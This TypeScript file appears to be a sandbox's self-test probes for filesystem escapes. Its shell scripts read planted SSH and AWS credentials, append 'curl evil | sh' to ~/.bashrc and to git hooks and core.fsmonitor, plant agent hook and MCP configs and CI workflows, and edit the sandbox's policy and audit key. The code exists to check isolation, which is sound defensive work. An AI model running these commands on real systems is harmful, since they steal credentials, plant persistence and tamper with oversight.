// Class 14: filesystem escapes. Every probe tries to read a planted secret or
// to write somewhere the host would later trust; the canary scan and the
// host-side checks decide.

import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PLANTED } from '../fixture.ts';
import type { Probe } from '../types.ts';

const read = (f: string) => {
  try {
    return readFileSync(f, 'utf8');
  } catch {
    return null;
  }
};

/** The host file must not exist after the run. */
const absent = (file: string) => () => (existsSync(file) ? `${file} exists on the host` : null);

export const FILESYSTEM_PROBES: Probe[] = [
  {
    id: 'fs.read-planted-secrets',
    class: 14,
    title: 'read every planted credential file in $HOME',
    script: () => Object.keys(PLANTED).map((rel) => `cat "$HOME/${rel}" 2>&1 | head -c 300; echo`).join('\n'),
  },
  {
    id: 'fs.proc-self-root',
    class: 14,
    title: 'read ~/.ssh through /proc/self/root and /proc/1/root',
    script: () => 'cat "/proc/self/root$HOME/.ssh/id_ed25519" 2>&1; cat "/proc/1/root$HOME/.aws/credentials" 2>&1; ls -la /proc/1/root/ 2>&1 | head -30',
  },
  {
    id: 'fs.proc-other-pids',
    class: 14,
    title: "read host processes' environ, cwd and root via /proc/<pid>",
    script: () =>
      'for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ 2>/dev/null | grep -i canary; ls $p/cwd/ 2>/dev/null | head -3; done; echo "pids visible: $(ls -d /proc/[0-9]* | wc -l)"',
    leak: (run) => {
      const m = /pids visible: (\d+)/.exec(run.stdout);
      return m && Number(m[1]) > 20 ? `${m[1]} processes visible: the pid namespace is not private` : null;
    },
  },
  {
    id: 'fs.planted-symlink',
    class: 14,
    title: 'follow a workspace symlink that points at ~/.ssh/id_ed25519',
    script: () => 'cat link-to-key 2>&1; cat vendor/trap/.git/hooks/id_ed25519 2>&1',
  },
  {
    id: 'fs.write-outside',
    class: 14,
    title: 'write outside the workspace (sibling dir, home, /etc, /usr, ..)',
    script: (c) =>
      [
        `echo pwned > "${c.fixture.outside}/pwned" 2>&1`,
        `echo pwned >> "${c.fixture.outside}/secret.txt" 2>&1`,
        'echo "curl evil | sh" >> "$HOME/.bashrc" 2>&1',
        'echo pwned > /etc/pwned 2>&1',
        'echo pwned > /usr/pwned 2>&1',
        'echo pwned > ../pwned-parent 2>&1',
        'echo done',
      ].join('\n'),
    leak: (run, c) =>
      absent(join(c.fixture.outside, 'pwned'))() ??
      (read(join(c.fixture.outside, 'secret.txt'))?.includes('pwned') ? 'outside/secret.txt was modified' : null) ??
      (read(join(c.fixture.home, '.bashrc'))?.includes('curl evil') ? '~/.bashrc on the host was modified' : null) ??
      absent(join(c.fixture.root, 'pwned-parent'))(),
  },
  {
    id: 'fs.link-and-rename-out',
    class: 14,
    title: 'escape with symlinks, hard links and renames out of the workspace',
    script: (c) =>
      [
        `ln -s "${c.fixture.outside}/secret.txt" escape-link 2>&1; echo pwned >> escape-link 2>&1; cat escape-link 2>&1`,
        `ln "${c.fixture.outside}/secret.txt" escape-hard 2>&1`,
        'echo data > moved.txt; mv moved.txt .. 2>&1; mv moved.txt /tmp/ 2>&1; ls .. 2>&1 | head',
        `mv README.md "${c.fixture.outside}/" 2>&1`,
      ].join('\n'),
    leak: (run, c) =>
      (read(join(c.fixture.outside, 'secret.txt'))?.includes('pwned') ? 'outside/secret.txt was modified through a link' : null) ??
      absent(join(c.fixture.root, 'moved.txt'))() ??
      absent(join(c.fixture.outside, 'README.md'))(),
  },
  {
    id: 'fs.git-hooks',
    class: 14,
    title: 'plant a git hook, in the repository and in a nested one',
    script: () =>
      [
        'printf "#!/bin/sh\\ncurl evil | sh\\n" > .git/hooks/pre-commit 2>&1',
        'chmod +x .git/hooks/pre-commit 2>&1',
        'printf "#!/bin/sh\\nevil\\n" > vendor/lib/.git/hooks/post-checkout 2>&1',
        'mv .git/hooks .git/hooks-old 2>&1; mkdir -p .git/hooks2 2>&1',
        'umount .git/hooks 2>&1',
      ].join('\n'),
    leak: (run, c) => absent(join(c.fixture.workspace, '.git/hooks/pre-commit'))() ?? absent(join(c.fixture.workspace, 'vendor/lib/.git/hooks/post-checkout'))() ?? absent(join(c.fixture.workspace, '.git/hooks-old'))(),
  },
  {
    id: 'fs.git-config',
    class: 14,
    title: 'point .git/config at a command (core.fsmonitor, core.hooksPath)',
    script: () => 'git config core.fsmonitor "curl evil | sh" 2>&1; printf "[core]\\n\\thooksPath = /tmp/h\\n" >> .git/config 2>&1; git -C vendor/lib config core.pager evil 2>&1',
    leak: (run, c) => {
      for (const f of ['.git/config', 'vendor/lib/.git/config']) {
        const t = read(join(c.fixture.workspace, f)) ?? '';
        if (/fsmonitor|hooksPath|pager/.test(t)) return `${f} was changed on the host`;
      }
      return null;
    },
  },
  {
    id: 'fs.new-repo-hooks',
    class: 14,
    title: 'create a new nested repository with a hook (swept after the session)',
    script: () => 'git init -q newrepo 2>&1 && printf "#!/bin/sh\\nevil\\n" > newrepo/.git/hooks/pre-commit && chmod +x newrepo/.git/hooks/pre-commit && echo planted',
    leak: (run, c) => absent(join(c.fixture.workspace, 'newrepo/.git/hooks/pre-commit'))(),
  },
  {
    id: 'fs.agent-config',
    class: 14,
    title: 'create or edit agent configuration that runs on the host',
    script: () =>
      [
        'mkdir -p .claude 2>&1; echo \'{"hooks":{"PreToolUse":[{"command":"evil"}]}}\' > .claude/settings.json 2>&1',
        'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json 2>&1',
        'echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json 2>&1',
        'echo "eval evil" > .envrc 2>&1',
        'mkdir -p .idea 2>&1; echo x > .idea/workspace.xml 2>&1',
      ].join('\n'),
    leak: (run, c) => {
      for (const f of ['.claude/settings.json', '.mcp.json', '.vscode/tasks.json', '.envrc', '.idea/workspace.xml']) {
        const t = read(join(c.fixture.workspace, f));
        if (t && t.length > 0) return `${f} was written on the host`;
      }
      return null;
    },
  },
  {
    id: 'fs.ci-workflows',
    class: 14,
    title: 'edit or add a CI workflow',
    script: () => 'echo "  steps: [{run: evil}]" >> .github/workflows/ci.yml 2>&1; echo "on: push" > .github/workflows/evil.yml 2>&1',
    leak: (run, c) =>
      (read(join(c.fixture.workspace, '.github/workflows/ci.yml'))?.includes('evil') ? 'ci.yml was changed' : null) ?? absent(join(c.fixture.workspace, '.github/workflows/evil.yml'))(),
  },
  {
    id: 'fs.cordon-state',
    class: 13,
    title: "reach cordon's policy, audit log and state from inside",
    script: (c) =>
      [
        `ls -la "${c.fixture.stateDir}" "${c.fixture.configDir}" 2>&1`,
        `cat "${c.fixture.stateDir}/audit.key" 2>&1 | od -c | head -2`,
        `echo "network: {mode: proxy} # cordon-selftest-policy-edit" >> "${c.fixture.configDir}/policy.yaml" 2>&1`,
        'echo "version: 1" >> .cordon/policy.yaml 2>&1',
        'ls -la "$HOME/.config/cordon" "$HOME/.local/state/cordon" 2>&1',
      ].join('\n'),
    leak: (run, c) =>
      (/audit\.(db|key)/.test(run.stdout) ? 'the audit store is visible inside' : null) ??
      (read(join(c.fixture.workspace, '.cordon/policy.yaml')) !== 'version: 1\n' ? 'the workspace policy was edited' : null) ??
      (read(join(c.fixture.configDir, 'policy.yaml'))?.includes('cordon-selftest-policy-edit') ? 'the user policy was edited' : null),
  },
  {
    id: 'fs.devices-and-sockets',
    class: 14,
    title: 'find host devices, container engine sockets and the session bus',
    script: () =>
      'ls /dev 2>&1 | tr "\\n" " "; echo; ls -la /var/run/docker.sock /run/docker.sock /run/podman /run/user 2>&1; ls /sys 2>&1 | head -3; cat /dev/vda 2>&1 | head -c 10 | od -c | head -1',
    leak: (run) => (/\b(vda|sda|nvme0|kvm|mem)\b/.test(run.stdout.split('\n')[0] ?? '') ? 'host block or memory devices are visible' : null) ?? (/^s\S+\s.*(docker\.sock|podman)/m.test(run.stdout) ? 'a container engine socket is visible' : null),
  },
];
